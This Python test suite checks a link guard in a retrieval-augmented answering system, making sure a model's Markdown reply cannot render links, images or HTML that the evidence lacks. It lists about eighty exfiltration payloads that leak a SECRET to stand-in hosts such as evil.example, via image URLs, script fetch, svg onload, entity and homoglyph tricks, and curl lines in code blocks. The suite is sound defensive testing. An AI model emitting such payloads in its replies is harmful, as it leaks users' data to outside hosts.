"""No link, image or tag of a model is shown that the evidence does not have: a real parser of Markdown is the judge."""

from __future__ import annotations

import re
import string
from collections.abc import Iterator
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag_assets.answer.link_guard import LineGuard, guarded
from rag_assets.contracts.evidence import Evidence
from rag_assets_tests.answer.pieces import piece

SECRET = "SECRET"
SOURCE = """\
/// <summary>See <see cref="OrderService"/> and https://docs.example.org/refunds?lang=en.</summary>
/// <a href="https://example.org/rules">The rules</a>, or write to help@example.org.
public class OrderService { Dictionary<string, int> _stock; void Pay() => handlers[0](order); }
![plan](https://docs.example.org/plan.png) [guide](docs/guide.md) www.example.org/faq ftp://files.example.org/a.zip
"""
EVIDENCE = (piece(SOURCE, path="README.md", symbol="Shop.OrderService"),)

EVIL = f"evil.example/?d={SECRET}"
ATTACKS = {
    "image": f"It is so ![x](http://{EVIL}).",
    "image without alt": f"![](https://{EVIL})",
    "image by protocol": f"![x](//{EVIL})",
    "image with title": f'![x](http://{EVIL} "a title")',
    "image in brackets": f"![x](<http://{EVIL}>)",
    "image with spaces": f"![x](  http://{EVIL}  )",
    "image over lines": f"![x](\nhttp://{EVIL}\n)",
    "image with parentheses": f"![x](http://evil.example/(a)/?d={SECRET})",
    "image with escaped parenthesis": f"![x](docs/guide.md\\){SECRET})",
    "image with entity parenthesis": f"![x](docs/guide.md&#41;{SECRET})",
    "image in brackets with parenthesis": f"![x](<docs/guide.md){SECRET}>)",
    "image of a data address": f"![x](data:image/svg+xml;base64,{SECRET})",
    "link": f"[the rules](http://{EVIL})",
    "link relative": f"[the rules]({SECRET}.html)",
    "link absolute": f"[the rules](/{SECRET})",
    "link with a blank that is none": f"[the rules](docs/guide.md\u00a0{SECRET})",
    "link to mail": f"[write](mailto:{SECRET}@evil.example)",
    "link to script": f"<a>[x](javascript:alert('{SECRET}'))",
    "link around an image": f"[![x](http://{EVIL})](http://{EVIL})",
    "link twice": f"[x](http://a.example/)(http://{EVIL})",
    "link of a known host": f"[x](https://docs.example.org/{SECRET})",
    "link of a known address that goes on": f"[x](https://docs.example.org/refunds?lang=en&d={SECRET})",
    "link of a known address in another case": "[x](https://docs.example.org/refunds?lang=EN)",
    "address": f"See http://{EVIL} for more.",
    "address in capitals": f"See HTTP://{EVIL}.",
    "address of another scheme": f"<web+evil://{EVIL}>",
    "address by ftp": f"See ftp://{EVIL}",
    "address without scheme": f"See www.{EVIL}",
    "address by protocol": f"See //{EVIL} there",
    "address after a known one": f"https://docs.example.org/refunds?lang=en',{SECRET}",
    "address in bold": f"**http://{EVIL}**",
    "address in a table": f"| a |\n|---|\n| http://{EVIL} |",
    "address in a heading": f"# http://{EVIL}",
    "host": f"See {SECRET}.evil.com.",
    "host with a path": f"See evil.com/{SECRET}",
    "host with a port": f"See evil.com:8080/{SECRET}",
    "host with a query": f"See evil.io?{SECRET}",
    "host of many": f"See a.io.{SECRET}.evil.com",
    "host in another script": f"See {SECRET}.пример.com",
    "host in emphasis": f"See _{SECRET}.evil.com_ and __evil.io__",
    "mail": f"Write to {SECRET}@evil.com",
    "mail to a known host": f"Write to {SECRET}@example.org",
    "autolink": f"<http://{EVIL}>",
    "autolink by any scheme": f"<made-up:{SECRET}>",
    "autolink of mail": f"<{SECRET}@evil.example>",
    "reference": f"[the rules][r]\n\n[r]: http://{EVIL}",
    "reference relative": f"[the rules]\n\n[the rules]: {SECRET}.html",
    "reference in brackets": f"[the rules][]\n\n[the rules]: <{SECRET}.html>",
    "reference with title": f"[r]\n\n[r]: {SECRET}.html 'title'",
    "reference over lines": f"[r]\n\n[r]:\n    {SECRET}.html",
    "reference in a quote": f"[r]\n\n> [r]: {SECRET}.html",
    "reference in a list": f"[r]\n\n- [r]: {SECRET}.html",
    "reference of an image": f"![r]\n\n[r]: //{EVIL}",
    "reference over two lines": f"[a\nb]\n\n[a\nb]: {SECRET}.html",
    "tag of an image": f'<img src="http://{EVIL}">',
    "tag without quotes": f"<img src=//evil.example/{SECRET}>",
    "tag over lines": f"<img\nsrc='{SECRET}.png'\nalt=''>",
    "tag in capitals": f'<IMG SRC="{SECRET}.png">',
    "tag with slashes": f"<img/src={SECRET}.png>",
    "tag never closed": f"<iframe src={SECRET}.html\n\nmore",
    "tag of a link": f'<a href="{SECRET}.html">the rules</a>',
    "tag of a script": f"<script>fetch('{SECRET}')</script>",
    "tag of a style": f"<style>@import '{SECRET}.css'</style>",
    "tag of a drawing": f"<svg onload=\"f('{SECRET}')\">",
    "comment": f"<!-- {SECRET} -->",
    "comment never closed": f"<!-- {SECRET}",
    "instruction": f"<?{SECRET}?>",
    "entities": f"&#x68;ttp&#58;//{EVIL}",
    "entities in a target": f"[x](&#104;ttps&colon;&sol;&sol;{EVIL})",
    "escapes": f"[x](http\\://{EVIL})",
    "invisible behind a known address": "https://docs.example.org/plan.png\u200b\u200c\u200b",
    "invisible behind a known target": "[x](docs/guide.md\u200b\u200c\u200b)",
    "fence behind no line end": f"a\x0b```\n[x]({SECRET}.html)\n",
    "fence that ends without a line feed": f"```\na\r```\r[x]({SECRET}.html)",
    "unbalanced backtick": f"a ` b `http://{EVIL}` c",
    "half of a backtick": f"a `` b ` [x]({SECRET}.html)",
    "escaped backtick": f"\\`[x]({SECRET}.html)\\`",
    "backticks over lines": f"a ` b\n`[x]({SECRET}.html)` c",
    "fence too deep": f"    ```\n[x]({SECRET}.html)\n",
    "fence with a backtick": f"``` a`b\n[x]({SECRET}.html)\n",
}
"""What a viewer would open, or send, of a reply."""

UNSEEN = {
    "zero width": f"ht\u200btp://{EVIL}",
    "soft hyphen": f"[x](ht\u00adtps://{EVIL})",
    "full width": f"ｈｔｔｐ：／／{EVIL}",
    "Cyrillic": f"[x](һttр://{EVIL})",
    "other slashes": f"http:⁄⁄{EVIL}",
    "other colon": f"http∶//{EVIL}",
    "other dots": f"www。evil。example/{SECRET}",
    "in code": f"`curl http://{EVIL}`",
    "in a block of code": f"```sh\ncurl https://{EVIL}\n```",
}
"""What no viewer opens, but a person who copies it."""


def viewers() -> list[MarkdownIt]:
    return [
        MarkdownIt("gfm-like", {"html": True, "linkify": True}),
        MarkdownIt("commonmark", {"linkify": True}).enable("linkify"),
    ]


def tokens(text: str) -> Iterator[Token]:
    for viewer in viewers():
        for token in viewer.parse(text):
            yield token
            yield from token.children or ()


TAG = re.compile(r"<[a-zA-Z][\w-]*>|</[^<>]*>")


def opened(text: str) -> list[str]:
    """What a viewer would open or obey that the evidence does not have."""
    known = f"{SOURCE}\nREADME.md"
    found = []
    for token in tokens(text):
        for name in ("href", "src"):
            target = unquote(str(token.attrs.get(name, ""))).rstrip(string.punctuation)
            bare = re.sub(r"^(?:https?://|mailto:)", "", target)
            if target not in known and bare not in known:
                found.append(target)
        if token.type in ("html_inline", "html_block"):
            left = TAG.sub("", token.content.replace('<see cref="OrderService"/>', "")).strip()
            found += [left] if "<" in left or re.search("<(?:script|style)", token.content) else []
    return found


def judge_sees(text: str) -> bool:
    return bool(opened(text))


@pytest.mark.rule("E19")
@pytest.mark.parametrize("reply", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("before", ["", "`OrderService` pays [chunk: aaaa1111]. "], ids=["alone", "in a sentence"])
def test_nothing_is_shown_as_a_link_that_the_evidence_does_not_have(reply: str, before: str) -> None:
    made = guarded(before + reply, EVIDENCE)
    assert opened(made) == []
    assert guarded(made, EVIDENCE) == made, "a second time changes nothing"
    by_line = LineGuard(EVIDENCE)
    assert opened("".join(by_line(line) for line in re.findall("[^\n]*\n|[^\n]+", before + reply))) == []


def test_the_judge_sees_what_is_wrong() -> None:
    assert len(ATTACKS) >= 60
    blind = {name for name, reply in ATTACKS.items() if not judge_sees(reply)}
    assert blind == {  # of this parser; other viewers, or browsers that are given the text, open these too
        "address after a known one",
        "address without scheme",
        "entities",
        "image of a data address",
        "link to script",
        "tag with slashes",
    }


@pytest.mark.parametrize("reply", UNSEEN.values(), ids=UNSEEN)
def test_an_address_that_people_would_copy_is_taken_out_too(reply: str) -> None:
    made = guarded(reply, EVIDENCE)
    assert SECRET not in made and "link removed" in made


@pytest.mark.parametrize(
    "said",
    [
        "See https://docs.example.org/refunds?lang=en.",
        "It is told (https://docs.example.org/refunds?lang=en), and more.",
        "**https://docs.example.org/refunds?lang=en**",
        "[the rules](https://example.org/rules)",
        "![plan](https://docs.example.org/plan.png)",
        "<https://docs.example.org/plan.png>",
        "Read [the guide](docs/guide.md) or README.md.",
        "Write to help@example.org, see www.example.org/faq.",
        'It has <see cref="OrderService"/>.',
        '<a href="https://example.org/rules">The rules</a>',
        "`handlers[0](order)` is called; `Dictionary<string, int> _stock;` counts.",
        "```csharp\nvoid Pay() => handlers[0](order);\nvar made = new List<int>(other[i](x));\n```",
        "A `Result<Money>` of `Task<T>`; an `IReadOnlyList<Order>`.",
        "It returns List<Money> [chunk: aaaa1111]. // no comment",
        "`OrderLine.Id` is its key, `order.To` where it goes.",
        "1. First\n2. Then: it pays [chunk: aaaa1111, bbbb2222]\n\n> [Note]: that is so",
        "| a | b |\n|---|---|\n| x | y |",
        "Ranges: 1.2.3, v2.io… and C:\\shop\\orders, a/b.c, 12:30, x::y, a => b, a <b> c.",
        '~~~xml\n<Import Project="x.props" />\n~~~',
    ],
)
def test_what_the_evidence_has_and_code_stay_as_they_are(said: str) -> None:
    assert guarded(said, EVIDENCE) == said.replace("v2.io", "v2․io")


def test_names_that_could_be_hosts_stay_readable() -> None:
    assert guarded("The OrderLine.Id is its key.", EVIDENCE) == "The OrderLine․Id is its key."


PARTS = (
    *"[]()<>!`:/@.*_|#='?a1\"\\",
    *("``", "**", "\n", "\n\n", " ", "    ", "\t", "\r\n", "\u00a0", "\u200b", "](", "]: ", "[r]", "![x](", "> ", "- "),
    *("```\n", "~~~\n", "http://evil.io", "//evil.io", "www.", "evil.com", "mailto:", "javascript:", "data:text/html,"),
    *(
        "<img src=",
        "<a ",
        "</a>",
        "<!--",
        "-->",
        "&#40;",
        "&#41;",
        "&lt;",
        "&amp;",
        "docs/guide.md",
        "OrderLine.Id",
        SECRET,
    ),
)


@settings(max_examples=400, derandomize=True, deadline=None)
@given(st.lists(st.sampled_from(PARTS), min_size=3, max_size=12).map("".join))
def test_nothing_that_is_put_together_from_parts_is_shown_as_a_link(reply: str) -> None:
    made = guarded(reply, EVIDENCE)
    assert opened(made) == []
    assert guarded(made, EVIDENCE) == made


def test_without_evidence_nothing_is_linked() -> None:
    nothing: tuple[Evidence, ...] = ()
    assert opened(guarded("See https://docs.example.org/refunds?lang=en and [x](docs/guide.md).", nothing)) == []


def test_hostile_texts_take_no_time() -> None:
    from time import process_time

    for hostile in ("](" * 6_000, "[a](" * 3_000, "<a " * 4_000, "a." * 6_000, "[a]:\n" * 2_000, "&#x68;" * 2_000):
        started = process_time()
        guarded(hostile, EVIDENCE)
        assert process_time() - started < 5
